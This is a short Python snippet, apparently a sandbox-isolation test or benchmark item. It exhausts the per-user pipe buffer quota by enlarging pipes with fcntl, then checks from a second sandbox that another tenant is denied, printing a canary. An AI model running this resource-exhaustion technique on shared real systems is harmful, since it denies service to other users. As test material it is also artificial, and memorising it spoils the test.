# takes all pages for pipes that a user may have, which another tenant lacks
# root: it becomes another user
# before: import os; os.setgid(54321); os.setuid(54321)
import fcntl, os
held, full = [], False
while not full and len(held) < 120:
    held.append(os.pipe()[1])
    try: fcntl.fcntl(held[-1], 1031, 1 << 20)
    except PermissionError: full = True
# in another sandbox
import fcntl, os
try: fcntl.fcntl(os.pipe()[1], 1031, 1 << 20)
except PermissionError: print(CANARY_PROOF)
